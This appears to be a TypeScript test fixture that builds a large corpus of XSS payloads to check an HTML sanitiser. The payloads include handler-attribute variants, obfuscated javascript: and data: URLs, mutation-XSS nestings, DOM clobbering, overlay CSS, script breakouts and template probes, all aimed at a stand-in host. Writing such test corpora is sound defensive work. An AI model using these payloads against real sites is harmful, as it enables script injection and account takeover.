import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { full } from './short-or-full';

/*
 * Texts that, unless neutralised, run script, contact another host, navigate away or cover the page. Built
 * from parts, family by family, to get every combination; e2e/corpora/README.md names the sources of the
 * parts and how to add external lists.
 */

const HOST = 'jahat.contoh';
const RUN = 'alert(1)';

const HANDLERS = (
  'abort afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch ' +
  'beforepaste beforetoggle beforeunload blur cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange ' +
  'cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange ended error focus focusin focusout formdata fullscreenchange ' +
  'gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown ' +
  'mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown ' +
  'pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange reset resize scroll scrollend ' +
  'scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled submit suspend timeupdate toggle ' +
  'touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unload volumechange waiting webkitanimationend ' +
  'webkittransitionend wheel'
).split(' ');
const TAGS = (
  'a p img svg math body html video audio input button textarea select details dialog form iframe object embed marquee table td li blockquote h2 code ' +
  'pre style script link meta base isindex keygen custom-tag figure template slot area map source track frameset canvas font bdo ruby'
).split(' ');
/** Spellings of a tag that a filter misses and a browser recognises. */
const SPELLINGS: ((tag: string, handler: string) => string)[] = [
  (tag, on) => `<${tag} on${on}=${RUN} autofocus tabindex=1 src=x open>x`,
  (tag, on) => `<${tag.toUpperCase()} ON${on.toUpperCase()}="${RUN}" SRC=x>x</${tag}>`,
  (tag, on) => `<${tag}/x/on${on}='${RUN}'/src/=x>x`,
  (tag, on) => `<${tag}\n\ton${on}\n=\n\`${RUN}\`>x`,
  (tag, on) => `<${tag}\u000con${on}=&#97;&#108;ert(1)//x `,
  (tag, on) => `"'><${tag} x="'>" on${on}=${RUN}><!--`,
  (tag, on) => `<<${tag} <${tag} on${on}=top['al'+'ert'](1)>`,
  (tag, on) => `<svg><${tag} on${on}=${RUN}></svg><math><${tag} on${on}=${RUN}>`,
];

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript\r:${RUN}`,
  `javascript\t:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `&#x6A&#x61&#x76&#x61script:${RUN}`,
  `java&Tab;script&NewLine;:${RUN}`,
  `javascript&#58;//%0a${RUN}`,
  `javascript://${HOST}/%0d%0a${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `javas\u0000cript:${RUN}`,
  `%6aavascript:${RUN}`,
  `javascript:"<img src=x onerror=${RUN}>"`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:,${RUN}`,
  `blob:https://${HOST}/1`,
  `filesystem:https://${HOST}/1`,
  'file:///etc/passwd',
  `view-source:https://${HOST}/`,
  `jar:https://${HOST}!/x`,
  `feed:javascript:${RUN}`,
  `intent://${HOST}#Intent;scheme=https;end`,
  'about:srcdoc',
  `//${HOST}/`,
  `\\\\${HOST}\\`,
  `/\\${HOST}/`,
  `/\t/${HOST}/`,
  `https:${HOST}`,
  `https://www.google.com@${HOST}/`,
  `https://www.google.com.${HOST}/maps/embed`,
  `https://${HOST}/?x="><script>${RUN}</script>`,
  `ftp://${HOST}/`,
  'sms:+628001?body=x',
];
/** The places where a URL can occur. */
const PLACES: ((address: string) => string)[] = [
  (u) => `<a href="${u}">x</a>`,
  (u) => `<a href='${u}' target=_top ping="https://${HOST}/p">x</a>`,
  (u) => `<img src="${u}" srcset="${u} 2x" alt=x>`,
  (u) => `<picture><source srcset="${u}"><img src="${u}"></picture>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<iframe srcdoc="<a href='${u}'>x</a><script>parent.${RUN}</script>"></iframe>`,
  (u) => `<embed src="${u}">`,
  (u) => `<object data="${u}"><param name=movie value="${u}"></object>`,
  (u) => `<form action="${u}"><button formaction="${u}">x</button><input type=image src="${u}"></form>`,
  (u) => `<input autofocus formaction="${u}" type=submit form=x>`,
  (u) => `<svg><a xlink:href="${u}"><text y=20>x</text></a><use href="${u}"/><image href="${u}"/></svg>`,
  (u) => `<svg><animate attributeName=href values="${u}"/><set attributeName=onload to=${RUN}></svg>`,
  (u) => `<svg><script href="${u}"/><foreignObject><iframe src="${u}"></iframe></foreignObject></svg>`,
  (u) => `<math href="${u}"><mi xlink:href="${u}">x</mi></math>`,
  (u) => `<base href="${u}"><a href=x>x</a>`,
  (u) => `<link rel=stylesheet href="${u}"><link rel=preload as=image href="${u}">`,
  (u) => `<link rel=manifest href="${u}"><link rel=dns-prefetch href="${u}">`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<video src="${u}" poster="${u}" controls><track src="${u}"></video>`,
  (u) => `<audio src="${u}" autoplay><source src="${u}"></audio>`,
  (u) => `<body background="${u}"><table background="${u}"><td background="${u}">x</table>`,
  (u) => `<blockquote cite="${u}"><del cite="${u}">x</del></blockquote>`,
  (u) => `<map name=m><area shape=default href="${u}"></map><img usemap=#m src=x longdesc="${u}">`,
  (u) => `<script src="${u}"></script><script type=module>import "${u}"</script>`,
  (u) => `<p style="background:url('${u}');behavior:url(${u})">x</p>`,
  (u) => `<style>@import "${u}";p{background:url(${u})}</style>`,
];
const LINKS: ((address: string) => string)[] = [
  (u) => `[x](${u})`,
  (u) => `[x](<${u}>)`,
  (u) => `![x](${u})`,
  (u) => `<${u}>`,
  (u) => `[x][t]\n\n[t]: ${u}`,
  (u) => `[x]: ${u} "t"\n\n[x] ![x]`,
  (u) => `[x](${u} "t\\" onmouseover=${RUN} x=\\"")`,
  (u) => `[![x](${u})](${u})`,
  (u) => `![x](x"onerror="${RUN}) [x](${u}'onclick='${RUN})`,
  (u) => `Catatan[^x]\n\n[^x]: [x](${u})`,
  (u) => `| a |\n| - |\n| [x](${u}) <img src="${u}" onerror=${RUN}> |`,
];

/** Elements whose content a parser and a sanitiser may interpret differently (mutation XSS). */
const WRAPS = (
  'svg math style title noscript textarea xmp iframe noembed noframes template select option table caption p form desc foreignObject ' +
  'mtext mglyph annotation-xml svg/style math/mtext/table/mglyph/style svg/title form/math/mtext'
).split(' ');
const INNER: string[] = [
  `<img src=x onerror=${RUN}>`,
  `<!--</style></title></textarea></noscript><img src=x onerror=${RUN}>-->`,
  `<a title="</style></title></noscript></textarea><img src=x onerror=${RUN}>">x</a>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<p id="</svg></math><img src=x onerror=${RUN}>"><style><!--</style>`,
  `<table><style><img src=x onerror=${RUN}></style></table>`,
  `</p><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  `<annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
];
const open = (wrap: string) =>
  wrap
    .split('/')
    .map((tag) => `<${tag}>`)
    .join('');
const shut = (wrap: string) =>
  wrap
    .split('/')
    .reverse()
    .map((tag) => `</${tag}>`)
    .join('');

const COVER = 'position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh;background:red';
const COVERS = [
  `<div style="${COVER}">x</div>`,
  `<p style='${COVER.toUpperCase()}'>x</p>`,
  `<a href="https://${HOST}/" style="${COVER}"><img src=/storage/a.png style="${COVER}" width=9999 height=9999></a>`,
  `<style>*{${COVER}}</style>`,
  `<style>body{display:none!important}</style>`,
  `<dialog open style="${COVER}">x</dialog>`,
  `<div popover=manual class="${COVER}" hidden=until-found>x</div>`,
  `<table width=9999 height=9999 style="${COVER}"><td colspan=999 rowspan=999>x</table>`,
  `<p class="fixed inset-0 z-50 w-screen h-screen modal" dir=rtl>x</p>`,
  `<marquee width=9999 height=9999 behavior=alternate>x</marquee>`,
  `<input type=checkbox style="${COVER}" checked><plaintext hidden>`,
  `<p style="font-size:900vw;margin:-9999px;transform:scale(999)">x</p>`,
  `H${'\u0335\u0321\u0348'.repeat(200)}a${'\u030d'.repeat(400)}`,
  `\u202e${'sdrawkcab '.repeat(5)}\u2066\u2067\u2068`,
  `${'\ufdfd'.repeat(60)}${'𒐫'.repeat(40)}`,
];
const CLOBBERED = (
  'attributes body head forms images links scripts cookie location document window self top parent name children childNodes firstChild nodeName ' +
  'parentNode ownerDocument innerHTML outerHTML textContent style className classList getAttribute setAttribute removeAttribute getElementById ' +
  'querySelector createElement addEventListener appendChild remove replaceWith submit action method elements length __proto__ constructor prototype ' +
  'toString valueOf hasOwnProperty __next_f __NEXT_DATA__ next React _N_E webpackChunk_N_E isi'
).split(' ');
const LEAVING = (
  'title textarea script style noscript iframe xmp noembed noframes template select svg math table td tr ul ol p a b h1 h2 h3 div section article ' +
  'main aside header footer nav body html head form button details summary dialog figure picture video plaintext frameset'
).split(' ');
const TEMPLATES = [
  '{{7*7}}',
  '${alert(1)}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{%raw%}',
  '[[${7*7}]]',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Every family by name. */
export const FAMILIES: Record<string, readonly string[]> = {
  handlers: HANDLERS.flatMap((handler, at) =>
    TAGS.map((tag, index) => SPELLINGS[(at + index) % SPELLINGS.length]!(tag, handler)),
  ),
  addresses: SCHEMES.flatMap((scheme) => PLACES.map((place) => place(scheme))),
  links: SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
  mutations: WRAPS.flatMap((outer, at) =>
    WRAPS.flatMap((inner, index) => {
      const text = INNER[(at + index) % INNER.length]!;
      return [
        `${open(outer)}${open(inner)}${text}${shut(inner)}${shut(outer)}`,
        `${open(outer)}${text}${open(inner)}`,
      ];
    }),
  ),
  covers: COVERS,
  clobbering: CLOBBERED.flatMap((name) => [
    `<img name=${name} id=${name} src=x>`,
    `<form id=${name}><input name=${name}><output id=${name}>x</output></form>`,
    `<a id=${name} href="https://${HOST}/"></a><a id=${name} name=${name} href="x:${RUN}">x</a>`,
  ]),
  leaving: LEAVING.flatMap((tag) => [
    `</${tag}><script>${RUN}</script>`,
    `</${tag}><${tag} onclick=${RUN}><img src=x onerror=${RUN}>`,
  ]),
  scripts: [
    `<script>${RUN}</script>`,
    `</script><script>${RUN}</script><!--<script>`,
    `<!--<script>`,
    `<script x>${RUN}</script y>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `\u2028${RUN}\u2029//`,
    `'-${RUN}-'`,
    `\\"-${RUN}//`,
    `"]);${RUN};self.__next_f.push([1,"`,
    `<script type="application/ld+json">{"@type":"Event"}</script>`,
    `<meta name="x-status" content="503">`,
    `"/><meta name="x-status" content="404"/></head>`,
    `</head><body onload=${RUN}>`,
    `<?xml-stylesheet href="javascript:${RUN}"?>`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `]]><script>${RUN}</script>`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `\ud800<script>${RUN}</script>\udfff`,
    `<img src=x onerror=${RUN}//\u0000>`,
    ...TEMPLATES,
  ],
};

/** `count` of a list, evenly spread. */
export function spread<T>(list: readonly T[], count: number): T[] {
  const step = Math.max(1, list.length / count);
  return Array.from({ length: Math.min(count, list.length) }, (_, index) => list[Math.floor(index * step)]!);
}

/**
 * External lists from the folder in XSS_CORPORA: one payload per line, or a module of { payload }
 * (e2e/corpora/README.md).
 */
async function foreign(): Promise<string[]> {
  const folder = process.env.XSS_CORPORA;
  if (!folder) return [];
  const lists = readdirSync(folder).map(async (name) => {
    const file = path.resolve(folder, name);
    if (/\.txt$/.test(name)) return readFileSync(file, 'utf8').split(/\r?\n/);
    if (!/\.mjs$/.test(name)) return [];
    const { default: cases } = (await import(file)) as { default: { payload?: unknown }[] };
    return cases.map(({ payload }) => String(payload ?? ''));
  });
  return (await Promise.all(lists)).flat().filter((payload) => payload.trim());
}

/** The number of payloads per family in the short form: all of them fit on one sheet of pages. */
const SHORT = 26;

/**
 * The payloads of this run, without duplicates: a sample of every family in the short form, else all of them.
 */
export async function payloads(): Promise<string[]> {
  const families = Object.values(FAMILIES);
  if (!full) return families.flatMap((family) => spread(family, SHORT));
  return [...new Set([...families.flat(), ...(await foreign())])];
}
